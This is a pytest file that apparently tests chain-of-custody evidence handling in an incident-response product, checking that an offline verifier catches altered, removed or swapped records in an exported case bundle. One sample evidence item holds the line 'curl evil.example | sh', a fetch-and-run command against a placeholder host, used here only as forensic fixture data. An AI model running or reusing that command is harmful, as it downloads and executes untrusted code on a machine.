"""Evidence of a case: hashed and chained at intake, exported, and verified by the stand-alone program on its own."""

from __future__ import annotations

import base64
import itertools
import json
import random
import shutil
import subprocess
import sys
from importlib.resources import files

import pytest
from tests.conftest import FakeClock

from vedette.act.cases.custody import MAX_ITEM, link_id
from vedette.core.errors import DataError
from vedette.core.settings import Settings
from vedette.core.signal import Level
from vedette.run.cases.exporting import export_case
from vedette.run.parts import Parts

TENANT = "acme"
ITEMS = {
    "memory.img": b"\x00\x01" * 500,
    "shell.log": b"curl evil.example | sh\n",
    "netstat.txt": b"198.51.100.7:443\n",
}


@pytest.fixture
def parts(tmp_path):
    with Parts(Settings(home=tmp_path / "home"), clock=FakeClock()) as opened:
        yield opened


@pytest.fixture
def case(parts):
    case = parts.cases.open(TENANT, "A key is loose", operator="ana", level=Level.HIGH).id
    for name, content in ITEMS.items():
        parts.custody.collect(TENANT, case, name=name, content=content, how="copied by hand", operator="ana")
        parts.clock.advance(60)
    parts.custody.transfer(TENANT, case, to="bob", how="shift", operator="ana")
    # What a playbook keeps stands in the same chain.
    reference = parts._keep("snapshot/run_1", TENANT, "snapshot", parts.clock.now(), b"{}")
    digest = "44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a"
    parts.cases.add_evidence(TENANT, case, digest=digest, reference=reference, what="alert_snapshot", operator="run_1")
    return case


@pytest.fixture
def elsewhere(tmp_path):
    """Another machine: an empty folder, the verifier alone, and a Python that knows nothing of the product."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    shutil.copy(str(files("vedette.prove").joinpath("verifier.py")), folder / "verifier.py")

    def verify(lines, *more):
        (folder / "case.bundle").write_bytes(b"".join(lines))
        command = [sys.executable, "-E", "-s", "verifier.py", "case.bundle", *more]
        done = subprocess.run(command, cwd=folder, env={}, capture_output=True, text=True, check=False)
        return done.returncode, done.stdout

    return verify


def test_a_bundle_verifies_elsewhere_with_its_whole_chain(parts, case, elsewhere):
    lines = list(export_case(parts, TENANT, case, to="the auditor", operator="cat"))
    status, told = elsewhere(lines, "--key", parts.evidence.key)
    assert status == 0, told
    assert f"chain of custody of case {case}: 6 links, 4 items, exported by cat to the auditor" in told
    links = parts.custody.links(TENANT, case)
    assert [link.act for link in links] == ["collected"] * 3 + ["transferred", "collected", "exported"]
    assert [link.number for link in links] == list(range(6))
    assert {link.who for link in links} == {"ana", "run_1", "cat"}
    again = list(export_case(parts, TENANT, case, to="the court", operator="cat"))
    assert elsewhere(again)[0] == 0


def records(lines):
    return [(number, json.loads(line)) for number, line in enumerate(lines) if number]


def forged(lines, number, change):
    """The bundle with one line changed, and as many promised as there are."""
    entry = json.loads(lines[number])
    change(entry)
    return [*lines[:number], json.dumps(entry).encode() + b"\n", *lines[number + 1 :]]


def promised(lines):
    header = json.loads(lines[0])
    return [json.dumps({**header, "records": len(lines) - 1}).encode() + b"\n", *lines[1:]]


def test_every_changed_byte_of_every_item_is_located(parts, case, elsewhere):
    lines = list(export_case(parts, TENANT, case, to="the auditor", operator="cat"))
    rng = random.Random(3)
    for number, entry in records(lines):

        def flip(held):
            content = bytearray(base64.b64decode(held["content"]))
            content[rng.randrange(len(content))] ^= 1 << rng.randrange(8)
            held["content"] = base64.b64encode(content).decode()

        status, told = elsewhere(forged(lines, number, flip))
        assert status == 1
        assert f"line {number + 1}: the content of record {entry['index']} ({entry['record']['id']})" in told


def test_every_removed_item_and_link_is_located(parts, case, elsewhere):
    lines = list(export_case(parts, TENANT, case, to="the auditor", operator="cat"))
    chain = [number for number, entry in records(lines) if entry["record"]["kind"] == "custody"]
    for number, entry in records(lines):
        status, told = elsewhere(promised([*lines[:number], *lines[number + 1 :]]))
        assert status == 1, entry["record"]["id"]
        if number not in chain:
            assert f"record {entry['record']['id']} is missing" in told
        elif number == chain[-1]:
            assert f"case {case}: the chain breaks off after link 4" in told
        else:
            place = chain.index(number)
            assert f"link {place + 1} of case {case} stands where link {place} belongs" in told


def test_every_two_links_that_change_places_are_located(parts, case, elsewhere):
    lines = list(export_case(parts, TENANT, case, to="the auditor", operator="cat"))
    chain = [number for number, entry in records(lines) if entry["record"]["kind"] == "custody"]
    for one, other in itertools.pairwise(chain):
        swapped = list(lines)
        swapped[one], swapped[other] = swapped[other], swapped[one]
        status, told = elsewhere(swapped)
        place = chain.index(one)
        assert status == 1
        assert f"line {one + 1}: link {place + 1} of case {case} stands where link {place} belongs" in told or (
            "stands behind record" in told
        )
        # With their numbers exchanged as well, the content is no longer what was signed.
        contents = [json.loads(lines[number])["content"] for number in (one, other)]
        exchanged = forged(lines, one, lambda held, content=contents[1]: held.update(content=content))
        assert f"line {one + 1}: the content of record" in elsewhere(exchanged)[1]


def test_an_item_of_another_case_cannot_take_the_place(parts, case, elsewhere):
    other = parts.cases.open(TENANT, "Another", operator="ana", level=Level.LOW).id
    parts.custody.collect(TENANT, other, name="memory.img", content=b"something else", how="x", operator="ana")
    mine = list(export_case(parts, TENANT, case, to="the auditor", operator="cat"))
    theirs = list(export_case(parts, TENANT, other, to="the auditor", operator="cat"))
    item = next(number for number, entry in records(mine) if entry["record"]["kind"] == "artefact")
    swapped = [*mine[:item], theirs[1], *mine[item + 1 :]]
    status, told = elsewhere(swapped)
    assert status == 1
    assert told.startswith("NOT VERIFIED: line")


def test_intake_is_bounded_and_the_same_bytes_count_once(parts, case):
    before = len(parts.custody.links(TENANT, case))
    again = parts.custody.collect(
        TENANT, case, name="other name", content=ITEMS["shell.log"], how="again", operator="bob"
    )
    assert (again.name, again.number, len(parts.custody.links(TENANT, case))) == ("shell.log", 1, before)
    for content in (b"", b"x" * (MAX_ITEM + 1)):
        with pytest.raises(DataError):
            parts.custody.collect(TENANT, case, name="x", content=content, how="x", operator="ana")


def test_links_that_a_kill_kept_from_the_tree_come_at_the_next_turn(parts, case):
    parts.custody.settle()

    def broken(*_arguments):
        raise OSError("the disk is gone")

    kept, parts.custody._keep = parts.custody._keep, broken
    with pytest.raises(OSError, match="gone"):
        parts.custody.transfer(TENANT, case, to="cat", how="shift", operator="bob")
    parts.custody._keep = kept
    number = len(parts.custody.links(TENANT, case)) - 1
    assert parts.custody.settle() == 1
    assert parts.evidence.inclusion(link_id(case, number), parts.evidence.size())
